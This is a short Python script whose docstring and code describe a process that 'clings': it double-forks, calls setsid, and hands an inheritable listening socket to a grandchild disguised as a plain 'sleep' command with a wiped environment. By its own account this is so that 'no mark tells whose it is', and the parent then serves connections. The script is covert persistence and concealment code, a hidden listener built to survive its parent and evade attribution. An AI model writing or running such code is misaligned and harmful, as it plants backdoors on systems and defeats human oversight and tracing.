"""Clings: forks twice, leaves session, group and parent, and wipes its environment, so that no mark tells whose it is, and listens."""
import os
import sys

from vehicle import TOKEN, open_door, serve

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        door = open_door()
        os.set_inheritable(door.fileno(), True)
        os.execve(sys.executable, ['python3', '-c', 'import time; time.sleep(600)', TOKEN], {})
    os._exit(0)
os.wait()
serve()
